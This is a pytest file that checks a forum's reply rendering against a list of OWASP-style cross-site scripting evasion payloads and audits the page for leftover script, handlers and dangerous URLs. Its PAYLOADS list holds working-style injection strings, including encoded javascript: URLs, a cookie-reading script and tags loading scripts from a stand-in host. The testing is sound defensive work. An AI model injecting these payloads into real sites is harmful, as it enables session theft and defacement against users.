"""Known filter-evasion payloads (after the OWASP XSS filter evasion cheat sheet) posted as replies:
the rendered topic page has no executable script, event handler, style attribute or script/data URL."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from tests.factories import MemberFactory
from tests.forums.factories import make_topic
from tests.portal.web import post_form, sign_in

PAYLOADS = [
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',  # noqa: E501 - quoted verbatim
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",  # noqa: E501 - quoted verbatim
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",  # noqa: E501 - quoted verbatim
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    '<IMG SRC=java\x00script:alert("XSS")>',
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.example/xss.js?< B >",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    '<svg><script xlink:href="data:,alert(1)"></script></svg>',
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
    "[click](javascript&#58;alert(1))",
    "[click](  javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![img](javascript:alert(1))",
    '![img](x" onerror="alert(1))',
    '[a](https://ok.example" onclick="alert(1))',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '"><script>alert(document.cookie)</script>',
    "'';!--\"<XSS>=&{()}",
    "<a href='vbscript:msgbox(1)'>vb</a>",
    "`<img src=x onerror=alert(1)>`\n\n```\n<script>alert(1)</script>\n```",
]

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "background", "data", "dynsrc", "lowsrc", "xlink:href"}
BAD_SCHEME = re.compile(r"^(javascript|data|vbscript):", re.IGNORECASE)


class PageAudit(HTMLParser):
    """Collects every executable construct an attacker could want in the page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "script":
            src = dict(attrs).get("src") or ""
            if not src.startswith("/static/"):
                self.problems.append(f"script tag {attrs}")
        if tag in {"iframe", "object", "embed", "style", "svg", "math", "base"}:
            self.problems.append(f"{tag} tag")
        if tag == "meta" and "http-equiv" in dict(attrs):
            self.problems.append(f"meta refresh {attrs}")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"event handler {name}={value!r} on <{tag}>")
            if name == "style":
                self.problems.append(f"style attribute on <{tag}>")
            if name in URL_ATTRIBUTES and value:
                cleaned = re.sub(r"[\x00-\x20]+", "", value)
                if BAD_SCHEME.match(cleaned):
                    self.problems.append(f"{name}={value!r} on <{tag}>")


def test_there_are_at_least_thirty_payloads():
    assert len(PAYLOADS) >= 30


@pytest.fixture
def forum_page(web):
    topic = make_topic()
    sign_in(web, MemberFactory())
    return web, topic


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_posted_as_a_reply_renders_inert(forum_page, payload):
    web, topic = forum_page
    response = post_form(web, f"/forums/t/{topic.id}/reply", {"body": payload}, page=f"/forums/t/{topic.id}")
    assert response.status_code == 303
    html = web.get(f"/forums/t/{topic.id}").get_data(as_text=True)
    audit = PageAudit()
    audit.feed(html)
    assert audit.problems == []
    assert html.count("<article") == 2
